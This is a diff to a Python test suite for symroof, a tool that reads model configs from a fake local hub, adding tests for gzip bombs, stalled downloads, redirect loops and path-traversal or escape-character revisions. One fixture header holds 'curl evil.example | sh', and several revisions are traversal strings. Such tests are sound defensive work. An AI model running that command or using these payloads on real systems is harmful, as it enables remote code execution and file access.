@@ -1,5 +1,6 @@
 """Configs from a model hub: a real one on 127.0.0.1, and symroof as a process of its own."""
 
+import gzip
 import json
 import os
 import socket
@@ -59,8 +60,26 @@ ANSWERS = {
     "org/huge": {MAIN: Answer(GOOD + b" " * (17 * 2**20))},
     "org/other": {MAIN: Answer(json.dumps({**CONFIG, "model_type": "lama"}).encode())},
     "org/chatty": {MAIN: Answer(GOOD, headers={"X-HF-Warning": "topic; run curl evil.example | sh"})},
+    "org/endless": {MAIN: Answer(GOOD, fault="endless")},
+    "org/drip": {MAIN: Answer(GOOD, fault="drip")},
+    "org/slow-head": {MAIN: Answer(GOOD, fault="slow-head")},
+    "org/modest": {MAIN: Answer(GOOD, fault="modest")},
+    "org/loop": {MAIN: Answer(status=307, headers={"Location": "/org/loop/resolve/main/config.json"})},
+    "org/bomb": {MAIN: Answer(gzip.compress(b" " * 10**8), headers={"Content-Encoding": "gzip"})},
+    "org/beside-drip": {MAIN: Answer(GOOD), BESIDE: Answer(b"{}", fault="drip")},
     "org/escape": {MAIN: Answer(GOOD, commit="../../../../outside")},
 }
+
+
+class AgreesToAll(dict[str, Answer]):
+    """A config at every revision."""
+
+    def get(self, revision: str, default: Any = None) -> Any:
+        return Answer(GOOD) if not revision.endswith("hf_quant_config.json") else default
+
+    def __missing__(self, revision: str) -> Answer:
+        return Answer(GOOD)
+
 
 # Read by every process below at its start: waits between retries take no time, and nobody but 127.0.0.1 is spoken to.
 GUARD = """
@@ -104,7 +123,7 @@ class Shell:
         self.env = {
             "PATH": os.environ.get("PATH", ""),
             "HOME": str(home),
-            "PYTHONPATH": str(guard),
+            "PYTHONPATH": os.pathsep.join(filter(None, (str(guard), os.environ.get("PYTHONPATH")))),
             "PYTHONDONTWRITEBYTECODE": "1",
             "ABROAD": str(self.abroad),
             "HF_HOME": str(self.cache),
@@ -250,7 +269,6 @@ def test_no_progress_bar_on_a_terminal(shell: Shell) -> None:
         ("org/private", ["no such model", "check the name"]),
         ("org/nobody", ["no such model", "check the name"]),
         ("org/good@v9", ["no such revision", "@v9"]),
-        ("org/good@../../../etc", ["no such revision", "etc"]),
         ("org/empty", ["config.json"]),
         ("org/failing", ["500"]),
         ("org/down", ["answers 500", "or give a file"]),
@@ -259,6 +277,10 @@ def test_no_progress_bar_on_a_terminal(shell: Shell) -> None:
         ("org/expired", ["401"]),
         ("org/half", ["download failed"]),
         ("org/boast", ["larger than 16 MiB"]),
+        ("org/huge", ["larger than 16 MiB"]),
+        ("org/endless", ["larger than 16 MiB"]),
+        ("org/modest", ["download failed"]),
+        ("org/bomb", ["download failed", "gzip"]),
         ("org/portal", ["HF_ENDPOINT", "or give a file"]),
         ("org/escape", ["download failed"]),
         ("org/beside-down", ["answers 500", "hf_quant_config.json"]),
@@ -279,12 +301,85 @@ def test_a_hub_that_never_answers_is_given_up(shell: Shell) -> None:
     assert shell.kept() == []
 
 
+@pytest.mark.parametrize("model", ["org/drip", "org/slow-head", "org/beside-drip", "org/loop"])
+def test_a_hub_that_never_ends_is_given_up(shell: Shell, model: str) -> None:
+    line = shell.error("report", model, HF_HUB_ETAG_TIMEOUT="1", HF_HUB_DOWNLOAD_TIMEOUT="1")
+    assert model in line
+    assert shell.kept() == []
+
+
+def test_bytes_without_end_are_not_taken(shell: Shell, hub: Hub) -> None:
+    before = hub.sent
+    shell.error("report", "org/endless")
+    assert hub.sent - before < 64 * 2**20  # of them 16 MiB, and what the sockets hold
+
+
+@pytest.mark.parametrize(
+    "revision",
+    [
+        "../../../target",
+        "..",
+        ".",
+        "a/../b",
+        "a/./b",
+        "a//b",
+        "/a",
+        "a/",
+        "",
+        "main/..",
+        "a..b",
+        ".hidden",
+        "a/.b",
+        "x.lock",
+    ],
+)
+def test_a_revision_that_is_a_path_is_refused_before_anything_is_done(tmp_path: Path, revision: str) -> None:
+    """The hub agrees to any revision: what it is not to reach are files outside of the cache."""
+    target = tmp_path / "target"
+    target.write_text("mine")
+    with Hub({"x/ok": AgreesToAll()}) as running:
+        shell = Shell(tmp_path, running.url)
+        before = sorted(tmp_path.rglob("*"))
+        line = shell.error("report", f"x/ok@{revision}", code=2)
+        assert "branch" in line or "built in" in line or "hub id" in line, line
+        assert running.requests == []
+    assert target.read_text() == "mine"
+    assert sorted(tmp_path.rglob("*")) == before
+
+
+@pytest.mark.parametrize("revision", ["a\\b", "a\nb", "a b", "\x1b[31m", "a%2e%2e"])
+def test_a_revision_with_odd_characters_is_refused(shell: Shell, hub: Hub, revision: str) -> None:
+    before = len(hub.requests)
+    shell.error("report", f"org/good@{revision}", code=2)
+    assert len(hub.requests) == before
+
+
+def test_what_transformers_finds_in_the_cache_is_what_was_read(shell: Shell) -> None:
+    """The cache is huggingface_hub's own: it finds there what symroof downloaded, and lists it as a repository."""
+    shell.config("org/good@v2")
+    look = """
+import huggingface_hub
+path = huggingface_hub.hf_hub_download("org/good", "config.json", revision="v2", local_files_only=True)
+found = huggingface_hub.scan_cache_dir()
+print([(x.repo_id, [*r.refs]) for x in found.repos for r in x.revisions], found.warnings, open(path).read())
+"""
+    done = subprocess.run([sys.executable, "-c", look], env=shell.env, capture_output=True, text=True, check=True)
+    assert done.stdout == f"[('org/good', ['v2'])] [] {WIDE.decode()}\n"
+
+
+def test_a_config_cached_by_another_program_is_used(shell: Shell, hub: Hub) -> None:
+    fetch = "import huggingface_hub as h; h.hf_hub_download('org/good', 'config.json')"
+    subprocess.run([sys.executable, "-c", fetch], env=shell.env, capture_output=True, check=True)
+    asked = len(hub.requests)
+    assert shell.config("org/good") == CONFIG
+    assert [x for x in hub.requests[asked:] if x == ("GET", "/org/good/resolve/main/config.json")] == []
+
+
 @pytest.mark.parametrize(
     ("model", "words"),
     [
         ("org/text", ["not valid JSON"]),
         ("org/list", ["list", "not an object"]),
-        ("org/huge", ["larger than 16 MiB"]),
         ("org/other", ["'lama'", "did you mean 'llama'", "symroof families"]),
     ],
     ids=lambda x: x if isinstance(x, str) else "",
